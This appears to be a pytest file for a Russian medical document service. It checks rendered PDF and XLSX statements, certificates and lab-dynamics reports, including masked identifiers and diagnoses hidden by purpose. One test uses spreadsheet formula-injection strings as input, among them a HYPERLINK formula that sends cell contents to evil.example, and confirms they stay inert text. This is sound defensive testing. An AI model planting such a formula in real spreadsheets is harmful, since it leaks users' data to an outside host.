"""Real PDFs and XLSX files from composed documents, read back with pdftotext and openpyxl."""

import io
import re
import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from gosmed.contracts.documents.requests import CertificatePurpose, DocumentFormat, DocumentKind
from gosmed.contracts.system import DependencyState
from gosmed.documents.domain import DocumentSpec
from gosmed.documents.rendering import RUBLE_NUMBER_FORMAT, RenderPool, render, render_html

from .samples import content, history, lab_values, service

STATEMENT = DocumentSpec(DocumentKind.STATEMENT, DocumentFormat.PDF)
DYNAMICS = DocumentSpec(DocumentKind.DYNAMICS, DocumentFormat.PDF)


def pdf_text(pdf: bytes, tmp_path: Path) -> str:
    path = tmp_path / "document.pdf"
    path.write_bytes(pdf)
    result = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True, text=True
    )
    return result.stdout


def page_count(text: str) -> int:
    return text.count("\f")


def test_statement_pdf_has_header_table_and_totals(tmp_path: Path) -> None:
    pdf = render(content(STATEMENT, history(3)), DocumentFormat.PDF)
    assert pdf.startswith(b"%PDF")
    text = pdf_text(pdf, tmp_path)

    assert "СВЕДЕНИЯ ОБ ОКАЗАННЫХ МЕДИЦИНСКИХ УСЛУГАХ" in text
    assert "Иванова Анна Сергеевна" in text
    assert "12.04.1985" in text
    assert "***-***-445 95" in text
    assert "11223344595" not in text  # SNILS only masked
    assert "7700000000000001" in text
    assert "с 09.01.2025 по 11.01.2025" in text
    assert "Дата выдачи" in text
    assert "05.01.2026" in text
    for day in ("09.01.2025", "10.01.2025", "11.01.2025"):
        assert day in text
    assert "J06.9" in text
    assert "Выздоровление" in text
    # totals by coverage: 0 (OMS, free) + 450,00 (ДМС) + 2 500,50 (paid) = 2 950,50
    assert re.search(r"ДМС\s+1\s+450,00 ₽", text)
    assert re.search(r"Платно\s+1\s+2\s500,50 ₽", text)
    assert re.search(r"Итого\s+3\s+2\s950,50 ₽", text)
    assert "Страница 1 из 1" in text
    assert "Документ № СМУ-20260105-000042" in text


def test_500_services_break_across_pages_with_repeated_headers(tmp_path: Path) -> None:
    pdf = render(content(STATEMENT, history(500)), DocumentFormat.PDF)
    text = pdf_text(pdf, tmp_path)
    pages = page_count(text)

    assert pages > 10
    assert f"Страница {pages} из {pages}" in text
    page_texts = text.split("\f")[:pages]
    # the table header row repeats on every page with rows, the document number in every footer
    pages_with_rows = [page for page in page_texts if re.search(r"\d{2}\.\d{2}\.20\d\d", page)]
    assert len(pages_with_rows) >= pages - 1
    assert all("Организация" in page for page in pages_with_rows)
    assert all("Стоимость" in page for page in pages_with_rows)
    assert all("Документ № СМУ-20260105-000042" in page for page in page_texts)
    assert "Итого" in page_texts[-1]
    assert re.search(r"Итого\s+500\s", page_texts[-1])


def test_employer_certificate_shows_no_diagnosis_or_cost(tmp_path: Path) -> None:
    spec = DocumentSpec(
        DocumentKind.CERTIFICATE, DocumentFormat.PDF, purpose=CertificatePurpose.EMPLOYER
    )
    text = pdf_text(render(content(spec, history(3)), DocumentFormat.PDF), tmp_path)

    assert "СПРАВКА ОБ ОБРАЩЕНИЯХ ЗА МЕДИЦИНСКОЙ ПОМОЩЬЮ" in text
    assert "по месту работы" in text
    assert "09.01.2025" in text
    assert "09:30–09:50" in text
    for hidden in ("J06.9", "инфекция", "Кариес", "₽", "СНИЛС", "7700000000000001"):
        assert hidden not in text


def test_insurer_certificate_shows_costs_but_no_diagnosis(tmp_path: Path) -> None:
    spec = DocumentSpec(
        DocumentKind.CERTIFICATE, DocumentFormat.PDF, purpose=CertificatePurpose.INSURER
    )
    text = pdf_text(render(content(spec, history(3)), DocumentFormat.PDF), tmp_path)

    assert "в страховую организацию" in text
    assert "450,00 ₽" in text
    assert "ДМС" in text
    assert "J06.9" not in text
    assert "Кариес" not in text


def test_extract_describes_one_service(tmp_path: Path) -> None:
    spec = DocumentSpec(DocumentKind.EXTRACT, DocumentFormat.PDF)
    text = pdf_text(render(content(spec, (service(2),)), DocumentFormat.PDF), tmp_path)

    assert "ВЫПИСКА ОБ ОКАЗАННОЙ МЕДИЦИНСКОЙ УСЛУГЕ" in text
    assert "Приём врача-стоматолога-терапевта повторный" in text
    assert "K02.1 Кариес дентина" in text
    assert re.search(r"2\s500,50 ₽", text)


def test_extract_xlsx_has_the_one_service_as_a_row() -> None:
    spec = DocumentSpec(DocumentKind.EXTRACT, DocumentFormat.XLSX)
    book = openpyxl.load_workbook(io.BytesIO(render(content(spec, (service(2),)), spec.format)))
    rows = list(book["Услуги"].iter_rows(values_only=True))

    assert rows[0][:3] == ("Дата", "Время", "Услуга")
    assert rows[1][1:3] == ("09:30–09:50", "Приём врача-стоматолога-терапевта повторный")
    assert len(rows) == 2


def test_statement_xlsx_has_typed_cells_header_and_filters() -> None:
    items = history(3)
    spec = DocumentSpec(DocumentKind.STATEMENT, DocumentFormat.XLSX)
    book = openpyxl.load_workbook(io.BytesIO(render(content(spec, items), DocumentFormat.XLSX)))
    sheet = book["Услуги"]

    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Дата", "Услуга", "Код"]
    assert header[-2:] == ["Стоимость", "Оплата"]
    assert sheet.auto_filter.ref == "A1:I4"
    assert sheet.freeze_panes == "A2"
    first_date = sheet["A2"]
    assert isinstance(first_date.value, datetime)  # openpyxl reads a date cell as datetime
    assert first_date.value.date() == date(2025, 1, 9)
    assert first_date.number_format == "DD.MM.YYYY"
    cost = sheet["H4"]
    assert cost.data_type == "n"
    assert cost.value == pytest.approx(2500.50)
    assert cost.number_format == RUBLE_NUMBER_FORMAT
    about = book["Документ"]
    values = [row for row in about.iter_rows(values_only=True)]
    assert ("Номер документа", "СМУ-20260105-000042", None) in values
    assert any(row[0] == "Итого" and row[1] == 3 for row in values)


def test_clinic_texts_that_look_like_formulas_stay_texts() -> None:
    texts = {
        "service_name": '=HYPERLINK("https://evil.example/?"&A1,"Открыть")',
        "outcome": "+1+1",
        "organization_name": "@SUM(1,2)-2+3",
    }
    spec = DocumentSpec(DocumentKind.STATEMENT, DocumentFormat.XLSX)
    data = render(content(spec, (service(0).model_copy(update=texts),)), spec.format)

    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    for text in texts.values():
        found = [cell for cell in cells if cell.value == text]
        assert found, text  # kept whole: no apostrophe or space put in front
        for cell in found:
            assert cell.data_type == "s"
            assert cell.quotePrefix
    assert not [cell for cell in cells if cell.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        assert not [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]


async def test_the_pool_starts_warming_up_without_waiting_and_renders_meanwhile() -> None:
    pool = RenderPool(1)
    try:
        await pool.start_warm_up()  # returns at once: the service's start is not held

        pdf = await pool.render(content(STATEMENT, history(1)), DocumentFormat.PDF)

        assert pdf.startswith(b"%PDF")
    finally:
        await pool.close()


async def test_the_pool_reports_itself_down_until_its_workers_are_warm() -> None:
    pool = RenderPool(1)
    try:
        assert pool.status().state is DependencyState.DOWN
        await pool.warm_up()
        assert pool.status().state is DependencyState.UP
    finally:
        await pool.close()


def test_dynamics_pdf_has_a_chart_and_a_table_per_analyte_and_the_visits(tmp_path: Path) -> None:
    composed = content(DYNAMICS, history(2), lab_values())
    html = render_html(composed)
    assert html.count('<img class="chart" src="data:image/svg+xml;base64,') == 3

    text = pdf_text(render(composed, DocumentFormat.PDF), tmp_path)

    assert "ДИНАМИКА ЛАБОРАТОРНЫХ ПОКАЗАТЕЛЕЙ" in text
    assert "с 09.01.2025 по 09.04.2025" in text  # none asked: the span of the values
    for title in ("Гемоглобин, г/л", "Глюкоза, ммоль/л", "Холестерин общий, ммоль/л"):
        assert title in text
    assert "Референсный интервал: 3.9–6.1" in text
    assert re.search(r"10\.03\.2025\s+7\.2 \(вне нормы\)", text)
    assert "Визиты за период" in text
    assert "Исследование уровня глюкозы в крови" in text
    assert "Смирнов Павел Олегович" in text
    assert "Выздоровление" not in text  # a visit's outcome or diagnosis is not printed
    assert "Документ № СМУ-20260105-000042" in text
